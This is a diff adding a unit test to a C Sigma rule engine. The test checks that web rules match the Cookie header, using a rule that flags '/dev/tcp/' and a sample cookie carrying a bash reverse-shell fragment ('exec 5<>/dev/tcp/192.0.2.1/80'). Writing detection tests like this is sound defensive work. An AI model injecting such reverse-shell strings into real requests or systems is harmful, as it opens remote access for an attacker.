@@ -934,3 +934,28 @@ Test(sigma_set, defender_fields_with_spaces_match_rule_names_without)
     fk_arena_free(&a);
     fk_sigma_free(s);
 }
+
+/* Sigma's proxy and webserver taxonomy names the Cookie header cs-cookie: it reads the
+ * event's cookie, which JSON web logs and IIS keep. */
+Test(sigma_set, web_rules_read_the_cookie_header)
+{
+    char d[64];
+    fk_sigma_set *s = set_from("title: Reverse shell in a cookie\n"
+                               "logsource: {category: proxy}\n"
+                               "detection:\n  sel:\n    cs-cookie|contains: '/dev/tcp/'\n"
+                               "  condition: sel\n",
+                               false, d, sizeof d);
+    fk_event ev;
+    fk_event_clear(&ev);
+    ev.kind = FK_KIND_WEB;
+    ev.method = FK_STR("GET");
+    ev.path = FK_STR("/");
+    ev.cookie = FK_STR("sid=1; x=exec 5<>/dev/tcp/192.0.2.1/80");
+    title_list t = {""};
+    cr_assert_eq(fk_sigma_match_event(s, &ev, collect_titles, &t), 1);
+    cr_assert_str_eq(t.titles, "Reverse shell in a cookie");
+    ev.cookie = FK_STR("sid=1; theme=dark");
+    t.titles[0] = '\0';
+    cr_assert_eq(fk_sigma_match_event(s, &ev, collect_titles, &t), 0);
+    fk_sigma_free(s);
+}
